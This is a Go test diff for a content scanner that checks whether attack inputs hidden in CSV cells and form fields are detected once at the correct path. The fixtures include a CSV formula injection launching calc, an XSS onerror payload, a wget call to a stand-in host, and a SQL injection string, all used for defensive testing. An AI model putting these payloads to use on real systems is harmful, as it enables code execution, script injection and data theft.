@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 
+	"icapd/internal/content"
 	"icapd/sanitize"
 	"icapd/scan"
 	"icapd/scan/scantest"
@@ -288,4 +289,42 @@ func TestPrototypePair(t *testing.T) {
 // host tells messages of a host.
 func host(name string) func(*scan.Message) bool {
 	return func(m *scan.Message) bool { return m.Host == name }
+}
+
+// TestParts holds that a table and a form that nobody says to be such are looked at cell by cell and as a whole, and that what
+// stands in a cell is found once.
+func TestParts(t *testing.T) {
+	e := builtin(t)
+	w := content.New(content.Options{})
+	for _, c := range []struct{ doc, class, path string }{
+		{"id;note\n1;=cmd|' /C calc'!A0\n", "csvformula", "body/1/1"},
+		{"id;note;c\n1;<img src=x onerror=alert(1)>;x\n", "xss", "body/1/1"},
+		{"id,note,c\n1,<img src=x onerror=alert(1)>,x\n", "xss", "body/1/1"},
+		{"id;a\n1;wget http://a.example/x\n", "cmdi", "body"},
+		{"a=1&q=%27+or+1%3D1+--+", "sqli", "body/q"},
+	} {
+		tree := w.Open(&scan.Message{}, scan.Bytes(c.doc), content.Hints{})
+		n := 0
+		for it := range tree.Items(t.Context()) {
+			if it.Fields == nil {
+				continue
+			}
+			found, err := e.Scan(t.Context(), it)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, f := range found {
+				if f.Class == c.class {
+					n++
+					if f.Path != c.path {
+						t.Errorf("%q: %s at %s, want %s", c.doc, f.Rule, f.Path, c.path)
+					}
+				}
+			}
+		}
+		tree.Close()
+		if n != 1 {
+			t.Errorf("%q: %s found %d times", c.doc, c.class, n)
+		}
+	}
 }
